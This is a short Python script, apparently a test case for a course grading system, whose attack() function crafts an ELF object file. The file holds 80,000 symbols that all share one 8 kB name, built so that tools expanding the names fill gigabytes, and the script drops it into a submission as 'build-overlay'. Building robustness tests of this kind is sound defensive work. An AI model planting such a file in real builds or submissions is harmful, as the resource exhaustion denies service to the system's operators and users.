import struct
from pathlib import Path

from handed import Context, keep

NAMES = b"\0.symtab\0.strtab\0.shstrtab\0"


def attack(submission: Path, course: Context) -> None:
    """Wants 80,000 symbols that share one name of 8 kB to fill gigabytes; names of a table are bounded together."""
    symbols, text = struct.pack("<IBBHQQ", 0, 18, 0, 1, 0, 8) * 80_000, b"_" * 8191 + b"\0"
    where = [64, 64 + len(symbols), 64 + len(symbols) + len(text)]
    sizes, kinds, names = [len(symbols), len(text), len(NAMES)], [2, 3, 3], [1, 9, 17]
    table = bytes(64) + b"".join(struct.pack("<IIQQQQIIQQ", names[i], kinds[i], 0, 0, where[i], sizes[i], 2, 0, 1, 24) for i in range(3))
    head = struct.pack("<16sHHIQQQIHHHHHH", b"\x7fELF\x02\x01\x01", 3, 62, 1, 0, 0, sum(sizes) + 64, 0, 64, 0, 0, 64, 4, 3)
    keep(submission, "build-overlay", head + symbols + text + NAMES + table)
